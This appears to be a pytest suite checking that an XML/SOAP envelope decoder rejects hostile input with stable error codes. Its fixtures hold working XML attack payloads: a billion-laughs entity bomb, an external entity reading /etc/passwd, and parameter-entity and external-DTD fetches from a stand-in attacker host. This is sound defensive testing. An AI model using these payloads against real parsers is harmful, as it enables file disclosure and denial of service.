"""Hostile inbound bytes: each is refused with its stable code and nothing but EnvelopeRejected."""

from __future__ import annotations

import pytest
from envelope_samples import release_notification
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from silkway.exchange.domain.envelope import Envelope, EnvelopeRejected, RejectionCode
from silkway.exchange.xml import DEFAULT_LIMITS, Limits, decode, encode

VALID = encode(release_notification())

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>&lol9;</soap:Body></soap:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>&xxe;</soap:Body></soap:Envelope>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope SYSTEM "http://attacker.invalid/soap.dtd">
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"/>"""


def _code_of(data: bytes, limits: Limits | None = None) -> str:
    with pytest.raises(EnvelopeRejected) as caught:
        decode(data, limits or DEFAULT_LIMITS)
    return caught.value.code


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"],
)
def test_any_doctype_is_refused_outright(data: bytes) -> None:
    assert _code_of(data) == "xml-doctype-forbidden"


def test_external_entity_content_never_reaches_the_reason() -> None:
    with pytest.raises(EnvelopeRejected) as caught:
        decode(EXTERNAL_ENTITY)
    assert "root:" not in caught.value.reason


def test_doctype_in_an_otherwise_valid_envelope_is_refused() -> None:
    declaration, _, rest = VALID.partition(b"?>")
    data = declaration + b"?><!DOCTYPE soap:Envelope>" + rest
    assert _code_of(data) == "xml-doctype-forbidden"


def test_oversized_input_is_refused_before_parsing() -> None:
    padding = b" " * (1024 * 1024)
    data = VALID.replace(b"</soap:Envelope>", padding + b"</soap:Envelope>")
    assert _code_of(data) == "xml-too-large"


def test_size_limit_is_a_parameter() -> None:
    assert _code_of(VALID, Limits(max_bytes=len(VALID) - 1)) == "xml-too-large"
    assert isinstance(decode(VALID, Limits(max_bytes=len(VALID))), Envelope)


def test_deeply_nested_input_is_refused() -> None:
    depth = 100_000
    data = (
        b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
        + b"<a>" * depth
        + b"</a>" * depth
        + b"</soap:Body></soap:Envelope>"
    )
    assert _code_of(data) == "xml-too-deep"


def test_too_many_elements_are_refused() -> None:
    data = (
        b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>'
        + b"<a/>" * 30_000
        + b"</soap:Body></soap:Envelope>"
    )
    assert _code_of(data) == "xml-too-many-elements"


def test_soap_1_1_namespace_is_unexpected() -> None:
    data = VALID.replace(
        b"http://www.w3.org/2003/05/soap-envelope", b"http://schemas.xmlsoap.org/soap/envelope/"
    )
    assert _code_of(data) == "namespace-unexpected"


def test_wrong_root_element_in_the_soap_namespace_is_schema_invalid() -> None:
    data = VALID.replace(b"soap:Envelope", b"soap:Message")
    assert _code_of(data) == "schema-invalid"


def test_processing_instructions_are_refused() -> None:
    data = VALID.replace(b"<soap:Body>", b'<soap:Body><?xml-stylesheet href="x"?>')
    assert _code_of(data) == "xml-processing-instruction-forbidden"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x00\x01\x02\xff\xfe",
        b"%PDF-1.7\n",
        b'{"To": "EAEU://KZ"}',
        b"<soap:Envelope>",
        VALID[: len(VALID) // 2],
        VALID.replace(b"</wsa:To>", b"</wsa:Tx>"),
        VALID.replace(b"<EDocCode>", b"<EDocCode>&undeclared;"),
    ],
    ids=["empty", "binary", "pdf", "json", "unbound-prefix", "truncated", "mismatched", "entity"],
)
def test_non_xml_bytes_are_malformed(data: bytes) -> None:
    assert _code_of(data) == "xml-malformed"


def test_text_instead_of_bytes_is_refused() -> None:
    assert _code_of(VALID.decode()) == "xml-malformed"  # type: ignore[arg-type]


def test_comments_are_dropped_without_splitting_values() -> None:
    data = VALID.replace(b"SW26KZ00000", b"SW26KZ<!-- hidden -->00000")
    assert data != VALID
    assert decode(data) == release_notification()


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_envelopes_raise_nothing_but_rejection(data: st.DataObject) -> None:
    mutated = bytearray(VALID)
    for _ in range(data.draw(st.integers(1, 4))):
        position = data.draw(st.integers(0, len(mutated) - 1))
        mutated[position] = data.draw(st.integers(0, 255))
    try:
        outcome = type(decode(bytes(mutated))).__name__
    except EnvelopeRejected as rejected:
        outcome = rejected.code
    assert outcome in {code.value for code in RejectionCode} | {Envelope.__name__}
